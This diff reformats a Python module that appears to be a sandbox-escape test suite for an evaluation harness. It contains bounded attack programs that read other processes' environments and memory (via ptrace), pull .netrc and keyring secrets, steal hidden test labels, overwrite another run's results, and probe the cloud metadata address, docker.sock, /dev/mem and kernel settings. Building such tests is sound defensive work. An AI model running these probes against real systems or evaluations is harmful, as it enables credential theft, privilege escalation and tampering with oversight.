@@ -1,12 +1,14 @@
-"""Programs that try to get out of a sandbox, and a scene around them in which it is seen from outside whether one did.
+"""Programs that try to get out of a sandbox, and a scene around them in
+which it is seen from outside whether one did.
 
-Each attack is a main.py. It prints what refused it; whether it succeeded is read afterwards from the scene: planted secrets in
-what it left, protected files that changed, messages that arrived, processes that still live. Only where nothing can be seen from
-outside (a device that opened, memory that was held) does the program's own word count: `escaped(...)`.
+Each attack is a main.py. It prints what refused it; whether it succeeded is read afterwards from
+the scene: planted secrets in what it left, protected files that changed, messages that arrived,
+processes that still live. Only where nothing can be seen from outside (a device that opened, memory
+that was held) does the program's own word count: `escaped(...)`.
 
-The programs are bounded, so that they endanger no machine where nothing stops them: a GiB of memory or disk, 300 processes,
-files opened for writing but not written, no signal to any process but those of the scene.
-Not covered: faults of the kernel, side channels, GPU memory, io_uring.
+The programs are bounded, so that they endanger no machine where nothing stops them: a GiB of memory
+or disk, 300 processes, files opened for writing but not written, no signal to any process but those
+of the scene. Not covered: faults of the kernel, side channels, GPU memory, io_uring.
 """
 
 from __future__ import annotations
@@ -100,7 +102,8 @@ _LIBC = ctypes.CDLL(None, use_errno=True)
 PROTOCOL = "VALUE = 7\n"
 VICTIM = """
 import ctypes, signal, sys
-ctypes.CDLL(None).prctl(0x59616D61, ctypes.c_ulong(-1))  # PR_SET_PTRACER: any process may, where Yama would forbid it
+# PR_SET_PTRACER: any process may, where Yama would forbid it.
+ctypes.CDLL(None).prctl(0x59616D61, ctypes.c_ulong(-1))
 def note(number, frame):
     with open(sys.argv[1], "a") as file:
         print(number, file=file)
@@ -127,7 +130,11 @@ def escaped(why):
     loot("ESCAPED-" + NONCE + " " + why)
 
 def refuse(error):
-    refused.append(getattr(error, "strerror", None) or (str(error) if isinstance(error, str) else type(error).__name__ + ": " + str(error)))
+    if isinstance(error, str):
+        refused.append(error)
+    else:
+        text = type(error).__name__ + ": " + str(error)
+        refused.append(getattr(error, "strerror", None) or text)
 
 def finish():
     """The last lines: what refused it, and that the program came to its end."""
@@ -151,7 +158,10 @@ def attempt(action, *targets):
             refuse(error)
 
 def call(function, *arguments):
-    result = function(*(ctypes.c_long(value) if isinstance(value, int) else value for value in arguments))
+    values = []
+    for value in arguments:
+        values.append(ctypes.c_long(value) if isinstance(value, int) else value)
+    result = function(*values)
     if result == -1:
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     return result
@@ -178,7 +188,10 @@ def hold(what):
     escaped("held " + what)
 
 def daemon(action=""):
-    """Leave a process behind: no parent, session, environment or terminal, deaf to signals; it holds a lock until WORK/stop is there."""
+    """Leave a process behind that holds a lock until WORK/stop is there.
+
+    It has no parent, session, environment or terminal, and is deaf to signals.
+    """
     code = f"""
 import fcntl, os, signal, time
 for number in (1, 2, 15):
@@ -209,7 +222,10 @@ END = "\nfinish()\n"
 
 @dataclass
 class Scene:
-    """What lies around a program that runs: things to steal, to spoil and to talk to, and what became of them."""
+    """What lies around a program that runs.
+
+    Things to steal, to spoil and to talk to, and what became of them.
+    """
 
     root: Path
     nonce: str = field(default_factory=lambda: f"assay-escape-{secrets.token_hex(8)}")
@@ -309,13 +325,11 @@ class Scene:
             pass  # a home that is not there, or is not the user's own
 
     def _listen(self) -> None:
-        inet, inet6, unix, stream, datagram = (
-            socket.AF_INET,
-            socket.AF_INET6,
-            socket.AF_UNIX,
-            socket.SOCK_STREAM,
-            socket.SOCK_DGRAM,
-        )
+        inet = socket.AF_INET
+        inet6 = socket.AF_INET6
+        unix = socket.AF_UNIX
+        stream = socket.SOCK_STREAM
+        datagram = socket.SOCK_DGRAM
         wanted: dict[str, tuple[int, int, Any]] = {
             "TCP": (inet, stream, ("127.0.0.1", 0)),
             "TCP over IPv6": (inet6, stream, ("::1", 0)),
@@ -344,7 +358,9 @@ class Scene:
 
     @staticmethod
     def _service_folder() -> Path:
-        """Where the sockets of a machine's services lie, or a place that is as little of a program's business."""
+        """Where the sockets of a machine's services lie, or a place
+        that is as little of a program's business.
+        """
         return next(
             place
             for place in (Path("/run"), Path(f"/run/user/{os.getuid()}"), Path("/var/tmp"))
@@ -383,7 +399,8 @@ class Scene:
         self.memory = _LIBC.shmget(self.memory_key, 4096, 0o1600)
         _LIBC.shmat.restype = ctypes.c_void_p
         address = ctypes.c_void_p(_LIBC.shmat(self.memory, None, 0))
-        ctypes.memmove(address, text := self.secret("shared memory").encode(), len(text))
+        text = self.secret("shared memory").encode()
+        ctypes.memmove(address, text, len(text))
         _LIBC.shmdt(address)
         text = self.secret("the keyring").encode()
         _system_call("keyctl", 1, None)  # a session keyring, as a login gives it
@@ -427,7 +444,10 @@ class Scene:
         }
 
     def run(self, attack: Attack, kind: str, server: ForkServer | None) -> Execution:
-        """server: a warm one that forks the program, as runs are; None: it is executed, as those of open scaffolds are."""
+        """server: a warm one that forks the program, as runs are.
+
+        None: it is executed, as those of open scaffolds are.
+        """
         constants = "\n".join(f"{name} = {value!r}" for name, value in self.constants.items())
         self.main = PRELUDE.replace("# CONSTANTS", constants) + attack.code + END
         (self.work / "main.py").write_text(self.main)
@@ -446,15 +466,18 @@ class Scene:
         return self.execution
 
     def left(self) -> Iterator[Path]:
-        """What lies in the work folder, links not followed; not all of it where a program made very much."""
+        """What lies in the work folder, links not followed.
+
+        Not all of it where a program made very much.
+        """
         if self.work.is_symlink():
             return iter(())
-        found = (
+        paths = (
             Path(folder) / name
             for folder, folders, files in os.walk(self.work)
             for name in files + folders
         )
-        return islice(found, 300)
+        return islice(paths, 300)
 
     def output(self) -> bytes:
         """All that the program said and left, read as the harness reads it."""
@@ -464,12 +487,12 @@ class Scene:
 
     def _picture(self) -> dict[str, tuple]:
         """Everything that a program may not touch."""
-        found = {str(INTERPRETER): self._look(INTERPRETER)}
+        paths = {str(INTERPRETER): self._look(INTERPRETER)}
         for folder in (self.home, self.harness, self.root / "runs"):
             for path in (folder, *folder.rglob("*")):
                 if not path.is_relative_to(self.work):
-                    found[str(path)] = self._look(path)
-        return found
+                    paths[str(path)] = self._look(path)
+        return paths
 
     @staticmethod
     def _look(path: Path) -> tuple:
@@ -498,10 +521,15 @@ class Scene:
         return sorted(path.removeprefix(f"{self.root}/") for path in changed)
 
     def alive(self) -> bool:
-        """Whether a process still lives that a program left behind; what was killed may take a moment to be gone."""
+        """Whether a process still lives that a program left behind.
+
+        What was killed may take a moment to be gone.
+        """
         until = time.monotonic() + GRACE
-        while (alive := self._alive()) and time.monotonic() < until:
+        alive = self._alive()
+        while alive and time.monotonic() < until:
             time.sleep(0.02)
+            alive = self._alive()
         return alive
 
     def _alive(self) -> bool:
@@ -523,7 +551,8 @@ class Scene:
 
     def _ours(self, process: psutil.Process) -> bool:
         try:
-            command, folder = process.cmdline(), process.cwd()
+            command = process.cmdline()
+            folder = process.cwd()
             return process.status() != psutil.STATUS_ZOMBIE and (
                 self.nonce in command or folder.startswith(str(self.work))
             )
@@ -551,21 +580,21 @@ class Scene:
 
 
 def _system_call(name: str, *arguments: Any) -> int:
-    made = (ctypes.c_long(value) if isinstance(value, int) else value for value in arguments)
-    return int(_LIBC.syscall(ctypes.c_long(CALLS[name]), *made))
+    values = (ctypes.c_long(value) if isinstance(value, int) else value for value in arguments)
+    return int(_LIBC.syscall(ctypes.c_long(CALLS[name]), *values))
 
 
 # What is looked at from outside, each the evidence of an escape, or ''.
 
 
 def own_word(scene: Scene) -> str:
-    said = f"ESCAPED-{scene.nonce} ".encode()
+    mark = f"ESCAPED-{scene.nonce} ".encode()
     lines = scene.output().splitlines()
     return next(
         (
-            line.removeprefix(said).decode("utf-8", "replace")
+            line.removeprefix(mark).decode("utf-8", "replace")
             for line in lines
-            if line.startswith(said)
+            if line.startswith(mark)
         ),
         "",
     )
@@ -584,7 +613,9 @@ def secret_read(scene: Scene) -> str:
 
 
 def spoiled(scene: Scene) -> str:
-    """A protected file that changed, a file left where none belongs, or the work folder itself replaced."""
+    """A protected file that changed, a file left where none
+    belongs, or the work folder itself replaced.
+    """
     if scene.work.is_symlink() or not scene.work.is_dir():
         return "replaced its own work folder"
     if changed := scene.changed():
@@ -640,7 +671,9 @@ def harness_touched(scene: Scene) -> str:
 
 
 def something_left(scene: Scene) -> str:
-    """A living process, memory, a mount, a device, a file that gives its owner's rights away, a file as large as a disk."""
+    """A living process, memory, a mount, a device, a file that gives its
+    owner's rights away, a file as large as a disk.
+    """
     if scene.alive():
         return "a process of it is still alive"
     if _LIBC.shmget(scene.memory_key + 1, 0, 0) >= 0:
@@ -704,7 +737,9 @@ def executed(scene: Scene) -> str:
 
 
 def poisoned(scene: Scene) -> str:
-    """Compiled code that lies beside the source is left behind by a copy, so the next stage compiles its own."""
+    """Compiled code that lies beside the source is left behind by a
+    copy, so the next stage compiles its own.
+    """
     again = scene.root / "again"
     copy_files(scene.work, again)
     done = subprocess.run(
@@ -801,7 +836,9 @@ refuse("it holds no key")""",
     ),
     Attack(
         "key_in_the_environment_of_any_process",
-        'attempt(planted, *(f"/proc/{pid}/environ" for pid in (VICTIM, PARENT, os.getppid(), *filter(str.isdigit, os.listdir("/proc")))))',
+        """
+pids = [VICTIM, PARENT, os.getppid(), *filter(str.isdigit, os.listdir("/proc"))]
+attempt(planted, *(f"/proc/{pid}/environ" for pid in pids))""",
     ),
     Attack(
         "key_in_the_memory_of_the_harness",
@@ -814,8 +851,10 @@ class Piece(ctypes.Structure):
     _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
 def copied(pid):
     here = ctypes.create_string_buffer(STACK[1] - STACK[0])
-    mine, theirs = Piece(ctypes.addressof(here), len(here)), Piece(STACK[0], len(here))
-    call(libc.syscall, CALLS["process_vm_readv"], pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
+    mine = Piece(ctypes.addressof(here), len(here))
+    theirs = Piece(STACK[0], len(here))
+    pieces = ctypes.byref(mine), 1, ctypes.byref(theirs), 1
+    call(libc.syscall, CALLS["process_vm_readv"], pid, *pieces, 0)
     return here.raw
 attempt(memory, VICTIM)
 attempt(copied, VICTIM)""",
@@ -829,7 +868,8 @@ def trace(pid):
     if libc.ptrace(16, pid, 0, 0) == -1:  # PTRACE_ATTACH
         raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
     os.waitpid(pid, 0)
-    words = [libc.ptrace(1, pid, address, 0) for address in range(STACK[0], STACK[1], 8)]  # PTRACE_PEEKTEXT
+    addresses = range(STACK[0], STACK[1], 8)
+    words = [libc.ptrace(1, pid, address, 0) for address in addresses]  # PTRACE_PEEKTEXT
     libc.ptrace(17, pid, 0, 0)
     return struct.pack(f"{len(words)}q", *words)
 attempt(trace, VICTIM)""",
@@ -837,7 +877,8 @@ attempt(trace, VICTIM)""",
     Attack(
         "command_lines_of_other_processes",
         """
-attempt(planted, *(f"/proc/{pid}/cmdline" for pid in (VICTIM, *filter(str.isdigit, os.listdir("/proc")))))
+pids = [VICTIM, *filter(str.isdigit, os.listdir("/proc"))]
+attempt(planted, *(f"/proc/{pid}/cmdline" for pid in pids))
 refuse("only its own are there")""",
         landlock_cannot="/proc is one tree, of which a program needs its own part",
     ),
@@ -872,9 +913,16 @@ if os.access("/etc/shadow", os.R_OK) and os.geteuid():
     Attack(
         "home_through_proc",
         """
-attempt(read, f"/proc/1/root{HOME}/.netrc", f"/proc/self/root{HOME}/.netrc", f"/proc/{VICTIM}/root{HOME}/.netrc",
-        f"/proc/{VICTIM}/cwd/.netrc", f"/proc/{PARENT}/root{HOME}/.netrc", f"/proc/self/cwd/{os.path.relpath(HOME)}/.netrc",
-        f"/proc/self/task/{os.getpid()}/root{HOME}/.netrc")""",
+attempt(
+    read,
+    f"/proc/1/root{HOME}/.netrc",
+    f"/proc/self/root{HOME}/.netrc",
+    f"/proc/{VICTIM}/root{HOME}/.netrc",
+    f"/proc/{VICTIM}/cwd/.netrc",
+    f"/proc/{PARENT}/root{HOME}/.netrc",
+    f"/proc/self/cwd/{os.path.relpath(HOME)}/.netrc",
+    f"/proc/self/task/{os.getpid()}/root{HOME}/.netrc",
+)""",
     ),
     Attack(
         "hidden_labels_by_path",
@@ -887,7 +935,12 @@ attempt(os.listdir, os.path.dirname(HIDDEN))""",
         """
 os.chdir(ARRAYS)
 attempt(os.listdir, "..", "../..", "../../..")
-attempt(read, "../unlabelled/info.json", "../../../../assay-hidden/digits/test_labels.npy", ARRAYS + "/../hidden/test_labels.npy")""",
+attempt(
+    read,
+    "../unlabelled/info.json",
+    "../../../../assay-hidden/digits/test_labels.npy",
+    ARRAYS + "/../hidden/test_labels.npy",
+)""",
     ),
     Attack(
         "hidden_labels_of_the_user",
@@ -918,7 +971,8 @@ attempt(use, *(int(name) for name in os.listdir("/proc/self/fd") if int(name) > 
         "keyring",
         """
 def fetch(keyring):
-    key = call(libc.syscall, CALLS["keyctl"], 10, keyring, b"user", NONCE.encode(), 0)  # KEYCTL_SEARCH
+    wanted = b"user", NONCE.encode()
+    key = call(libc.syscall, CALLS["keyctl"], 10, keyring, *wanted, 0)  # KEYCTL_SEARCH
     text = ctypes.create_string_buffer(4096)
     call(libc.syscall, CALLS["keyctl"], 11, key, text, len(text))  # KEYCTL_READ
     return text.value
@@ -1045,8 +1099,13 @@ attempt(take, OTHER_RUN + "/result.json", OTHER_RUN + "/code", OTHER_RUN)""",
     Attack(
         "another_run_through_proc",
         """
-attempt(overwrite, f"/proc/1/root{OTHER_RUN}/result.json", f"/proc/self/root{OTHER_RUN}/result.json",
-        f"/proc/self/cwd/../../run_1/result.json", f"/proc/{VICTIM}/root{OTHER_RUN}/result.json")""",
+attempt(
+    overwrite,
+    f"/proc/1/root{OTHER_RUN}/result.json",
+    f"/proc/self/root{OTHER_RUN}/result.json",
+    f"/proc/self/cwd/../../run_1/result.json",
+    f"/proc/{VICTIM}/root{OTHER_RUN}/result.json",
+)""",
     ),
     Attack(
         "write_its_own_record",
@@ -1265,7 +1324,8 @@ attempt(send, UDP)""",
         """
 def ask(address):
     name = b"".join(bytes([len(part)]) + part for part in (NONCE.encode(), b"example", b""))
-    socket.socket(type=socket.SOCK_DGRAM).sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1", address)
+    question = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + name + b"\\0\\1\\0\\1"
+    socket.socket(type=socket.SOCK_DGRAM).sendto(question, address)
 attempt(ask, DNS)""",
     ),
     Attack(
@@ -1293,17 +1353,26 @@ attempt(throw, "\\0" + NONCE + "-d")""",
     Attack(
         "sockets_of_services",
         """
-found = [SERVICE, "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", f"/run/user/{os.getuid()}/bus"]
+paths = [
+    SERVICE,
+    "/run/docker.sock",
+    "/run/dbus/system_bus_socket",
+    "/run/systemd/private",
+    f"/run/user/{os.getuid()}/bus",
+]
 for start in ("/run", "/var/run", "/var/tmp"):
     for folder, folders, names in os.walk(start):
-        found += [path for name in names if stat.S_ISSOCK(os.lstat(path := os.path.join(folder, name)).st_mode)]
+        for name in names:
+            path = os.path.join(folder, name)
+            if stat.S_ISSOCK(os.lstat(path).st_mode):
+                paths.append(path)
 def greet(path):
-    made = socket.socket(socket.AF_UNIX)
-    made.settimeout(1)
-    made.connect(path)
-    made.sendall(NONCE.encode() if path == SERVICE else b"")
+    client = socket.socket(socket.AF_UNIX)
+    client.settimeout(1)
+    client.connect(path)
+    client.sendall(NONCE.encode() if path == SERVICE else b"")
     escaped("reached " + path)
-attempt(greet, *dict.fromkeys(found))""",
+attempt(greet, *dict.fromkeys(paths))""",
         landlock_cannot=SOCKET_FILES,
     ),
     Attack(
@@ -1320,7 +1389,12 @@ attempt(reach, ("169.254.169.254", 80))""",
 def make(kind):
     socket.socket(*kind).close()
     escaped(f"has a socket {kind}")
-attempt(make, (socket.AF_PACKET, socket.SOCK_RAW, 768), (socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET6, socket.SOCK_RAW, 58))""",
+attempt(
+    make,
+    (socket.AF_PACKET, socket.SOCK_RAW, 768),
+    (socket.AF_INET, socket.SOCK_RAW, 1),
+    (socket.AF_INET6, socket.SOCK_RAW, 58),
+)""",
     ),
     Attack(
         "sockets_of_the_hypervisor",
@@ -1608,7 +1682,11 @@ attempt(type_in, TERMINAL, "/dev/tty")""",
 KERNEL = (
     Attack(
         "user_name_space_by_unshare",
-        'attempt(lambda flags: call(libc.unshare, flags) or escaped("has a user name space of its own"), 0x10000000)',
+        """
+def unshare(flags):
+    call(libc.unshare, flags)
+    escaped("has a user name space of its own")
+attempt(unshare, 0x10000000)""",
     ),
     Attack(
         "user_name_space_by_clone",
@@ -1644,7 +1722,8 @@ if os.statvfs("/").f_flag & os.ST_RDONLY:  # nowhere else is a mount touched
         escaped("made a mount writable")
     attempt(remount, b"/", b"/usr", os.fsencode(ARRAYS), os.fsencode(WORK + "/main.py"))
     attempt(create, "/", "/usr")
-    attempt(lambda path: call(libc.umount2, path, 2), os.fsencode(WORK + "/main.py"), os.fsencode(ARRAYS))""",
+    places = os.fsencode(WORK + "/main.py"), os.fsencode(ARRAYS)
+    attempt(lambda path: call(libc.umount2, path, 2), *places)""",
     ),
     Attack(
         "chroot",
@@ -1664,7 +1743,8 @@ attempt(leave, "jail")""",
         "device_node",
         """
 def node(kind):
-    os.mknod(f"node{kind}", kind | 0o666, os.stat(WORK).st_dev if kind == stat.S_IFBLK else os.makedev(1, 1))
+    device = os.stat(WORK).st_dev if kind == stat.S_IFBLK else os.makedev(1, 1)
+    os.mknod(f"node{kind}", kind | 0o666, device)
 attempt(node, stat.S_IFBLK, stat.S_IFCHR)""",
     ),
     Attack(
@@ -1673,8 +1753,10 @@ attempt(node, stat.S_IFBLK, stat.S_IFCHR)""",
 def device(path):
     os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
     escaped("opened " + path)
-attempt(device, *(str(path) for path in Path("/dev").glob("*") if path.is_block_device()), "/proc/kcore")
-attempt(device, *(f"/dev/{name}" for name in ("mem", "port", "kmsg", "kvm", "fuse", "vhost-net", "vsock", "net/tun", "uinput")))""",
+blocks = [str(path) for path in Path("/dev").glob("*") if path.is_block_device()]
+names = "mem", "port", "kmsg", "kvm", "fuse", "vhost-net", "vsock", "net/tun", "uinput"
+attempt(device, *blocks, "/proc/kcore")
+attempt(device, *(f"/dev/{name}" for name in names))""",
     ),
     Attack(
         "settings_of_the_kernel",
@@ -1682,8 +1764,16 @@ attempt(device, *(f"/dev/{name}" for name in ("mem", "port", "kmsg", "kvm", "fus
 def writable(path):  # opened, not written
     os.close(os.open(path, os.O_WRONLY))
     escaped("could write " + path)
-attempt(writable, "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/kernel/modprobe", "/proc/sys/vm/drop_caches",
-        "/sys/kernel/uevent_helper", "/proc/sys/fs/binfmt_misc/register", "/sys/fs/cgroup/cgroup.procs")""",
+attempt(
+    writable,
+    "/proc/sys/kernel/core_pattern",
+    "/proc/sysrq-trigger",
+    "/proc/sys/kernel/modprobe",
+    "/proc/sys/vm/drop_caches",
+    "/sys/kernel/uevent_helper",
+    "/proc/sys/fs/binfmt_misc/register",
+    "/sys/fs/cgroup/cgroup.procs",
+)""",
     ),
     Attack(
         "rights_of_a_setuid_program",
